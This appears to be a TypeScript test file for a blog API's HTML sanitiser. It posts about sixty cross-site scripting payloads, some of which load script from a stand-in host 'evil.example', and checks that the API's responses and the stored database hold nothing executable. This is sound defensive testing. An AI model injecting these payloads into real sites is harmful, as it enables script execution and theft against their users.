/**
 * Known XSS vectors (script tags, event handlers, javascript: and data: URLs, SVG and MathML, styles,
 * frames, forms, malformed and nested tags) sent as post content leave nothing executable: not in what
 * the API returns, and not in what the store keeps on disk.
 */
import Sqlite from 'better-sqlite3';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { CreatePostResponse } from '../../contract/blog';
import type { GetPostResponse } from '../../contract/blog-reader';
import { DATABASE_FILE } from '../../api/store/data-dir';
import { startTestServer, type TestServer } from '../support/server';
import { call, validPost } from './support';

const VECTORS: readonly string[] = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<script type="module">import("//evil.example")</script>',
  '<img src=x onerror=alert(1)>',
  '<img src="javascript:alert(1)">',
  '<IMG SRC=JaVaScRiPt:alert(1)>',
  '<img src=x:alert(alt) onerror=eval(src) alt=0>',
  '<img src="https://example.com/a.png" srcset="javascript:alert(1) 1x">',
  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)">x</a>',
  '<a href="jav&#x09;ascript:alert(1)">x</a>',
  '<a href="java\nscript:alert(1)">x</a>',
  '<a href=" javascript:alert(1)">x</a>',
  '<a href="javascript&colon;alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  '<a href="https://example.com" onclick="alert(1)" onmouseover="alert(2)">x</a>',
  '<a href="//evil.example/phish">x</a>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">XSS</text></a></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<math href="javascript:alert(1)">CLICK</math>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe src="https://evil.example/"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<form action="javascript:alert(1)"><input type=submit></form>',
  '<button formaction="javascript:alert(1)">x</button>',
  '<body onload=alert(1)>',
  '<div style="background:url(javascript:alert(1))">x</div>',
  '<div style="width: expression(alert(1))">x</div>',
  '<style>@import "javascript:alert(1)";</style>',
  '<link rel=stylesheet href="javascript:alert(1)">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<base href="javascript:alert(1)//">',
  '<details open ontoggle=alert(1)>',
  '<video><source onerror=alert(1)></video>',
  '<audio src=x onerror=alert(1)>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<<script>alert(1)//<</script>',
  '<scr<script>ipt>alert(1)</script>',
  '<img """><script>alert(1)</script>">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<p>ok</p><!--<img src=x onerror=alert(1)>-->',
  '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>',
  '<textarea><script>alert(1)</script></textarea>',
  '<xmp><script>alert(1)</script></xmp>',
  '<template><script>alert(1)</script></template>',
  '<isindex action=javascript:alert(1) type=image>',
  '<div id="x" name="cookie" class="x" data-x="javascript:alert(1)">x</div>',
  '<a href="https://example.com/" target="_blank">window.opener</a>',
  '"><script>alert(1)</script>',
  '</p><script>alert(1)</script><p>',
];

const SAFE_TAGS = new Set([
  'h1', 'h2', 'h3', 'h4', 'h5', 'h6', 'p', 'br', 'hr', 'blockquote', 'pre', 'code', 'ul', 'ol', 'li', 'dl', 'dt', 'dd',
  'a', 'img', 'figure', 'figcaption', 'table', 'thead', 'tbody', 'tfoot', 'tr', 'th', 'td', 'caption', 'colgroup', 'col',
  'strong', 'b', 'em', 'i', 'u', 's', 'del', 'ins', 'sub', 'sup', 'mark', 'small', 'abbr', 'cite', 'q', 'kbd', 'time', 'span', 'div',
]);

function decodeEntities(text: string): string {
  return text
    .replace(/&#x([0-9a-f]+);?/gi, (_, hex: string) => String.fromCodePoint(Number.parseInt(hex, 16)))
    .replace(/&#(\d+);?/g, (_, dec: string) => String.fromCodePoint(Number(dec)))
    .replace(/&colon;/gi, ':')
    .replace(/&tab;/gi, '\t')
    .replace(/&newline;/gi, '\n')
    .replace(/&quot;/g, '"')
    .replace(/&amp;/g, '&');
}

/** Everything in `html` a browser could execute or that could load script; empty when safe. */
function executableParts(html: string): string[] {
  const found: string[] = [];
  for (const tag of html.matchAll(/<(\/?)([a-zA-Z][\w:-]*)([^>]*)>/g)) {
    const name = (tag[2] ?? '').toLowerCase();
    if (!SAFE_TAGS.has(name)) found.push(`<${name}>`);
    for (const attribute of (tag[3] ?? '').matchAll(/([^\s=/>]+)(?:\s*=\s*("[^"]*"|'[^']*'|[^\s>]+))?/g)) {
      const attributeName = (attribute[1] ?? '').toLowerCase();
      const value = decodeEntities((attribute[2] ?? '').replace(/^["']|["']$/g, ''));
      if (/^on/.test(attributeName) || ['style', 'srcdoc', 'formaction', 'xlink:href', 'background', 'action'].includes(attributeName)) {
        found.push(`${name}[${attributeName}]`);
      }
      // eslint-disable-next-line no-control-regex
      const compact = value.replace(/[\u0000-\u0020]+/g, '').toLowerCase();
      if (/^(?:javascript|vbscript|data):/.test(compact) || compact.startsWith('//')) found.push(`${name}[${attributeName}=${value}]`);
    }
  }
  if (/<(?:script|style|iframe|svg|math|object|embed)\b/i.test(html)) found.push('dangerous element text');
  return found;
}

let server: TestServer;
let key: string;

beforeAll(async () => {
  server = await startTestServer({ api: { writesPerMinute: 0 } });
  key = await server.createKey('xss');
});
afterAll(async () => {
  await server.close();
});

describe('the checker itself', () => {
  it('flags what it should', () => {
    expect(executableParts('<p>fine <a href="https://example.com">x</a></p>')).toEqual([]);
    expect(executableParts('<img src="x" onerror="y">')).not.toEqual([]);
    expect(executableParts('<a href="&#106;avascript:alert(1)">')).not.toEqual([]);
    expect(executableParts('<svg></svg>')).not.toEqual([]);
  });
});

describe('XSS vectors in post content', () => {
  it.each(VECTORS.map((vector, index) => [index, vector] as const))('vector %i leaves nothing executable: %s', async (index, vector) => {
    const res = await call<CreatePostResponse>(server, 'POST', '/api/blog', {
      key,
      body: validPost({ title: `XSS vector ${index}`, status: 'published', content: `<p>Safe text.</p>${vector}` }),
    });
    expect(res.status).toBe(201);
    const back = await call<GetPostResponse>(server, 'GET', `/api/blog/${res.json.post.slug}`);
    expect(back.json.post.content).toContain('Safe text.');
    expect(executableParts(back.json.post.content), back.json.post.content).toEqual([]);
    if (/script|on\w+=|javascript:|style|iframe|svg/i.test(vector)) expect(res.json.warnings.length).toBeGreaterThan(0);
  });

  it('stores nothing executable on disk either', async () => {
    // What the database file holds, read by a connection of its own as any other program would.
    const database = new Sqlite(path.join(server.dataDir, DATABASE_FILE), { readonly: true });
    try {
      const rows = database.prepare('SELECT slug, content FROM posts').all() as Array<{ slug: string; content: string }>;
      expect(rows.length).toBeGreaterThanOrEqual(VECTORS.length);
      for (const row of rows) expect(executableParts(row.content), row.slug).toEqual([]);
    } finally {
      database.close();
    }
  });

  it('keeps what a real post needs', async () => {
    const content = [
      '<h2>Heading</h2><h3>Sub</h3><p>Text with <strong>bold</strong>, <em>em</em> and <a href="https://example.com/x" title="t">a link</a>.</p>',
      '<ul><li>one</li><li>two</li></ul><ol start="3"><li>three</li></ol>',
      '<blockquote cite="https://example.com">Quote</blockquote><pre><code class="language-python">print(1)</code></pre>',
      '<table><thead><tr><th scope="col">A</th></tr></thead><tbody><tr><td colspan="2">1</td></tr></tbody></table>',
      // Pictures must be uploads of this site (an external <img> is removed): tests/api/cover-image.test.ts.
      '<figure><blockquote>Chart</blockquote><figcaption>Chart</figcaption></figure>',
      '<iframe src="https://www.youtube-nocookie.com/embed/abc123" title="Video" allowfullscreen></iframe>',
      '<p><a href="mailto:info@example.com">mail</a> <a href="tel:+15125550142">call</a></p>',
    ].join('');
    const res = await call<CreatePostResponse>(server, 'POST', '/api/blog', { key, body: validPost({ title: 'Rich Post', status: 'published', content }) });
    expect(res.json.warnings).toEqual([]);
    const back = await call<GetPostResponse>(server, 'GET', `/api/blog/${res.json.post.slug}`);
    expect(back.json.post.content).toBe(content);
  });
});
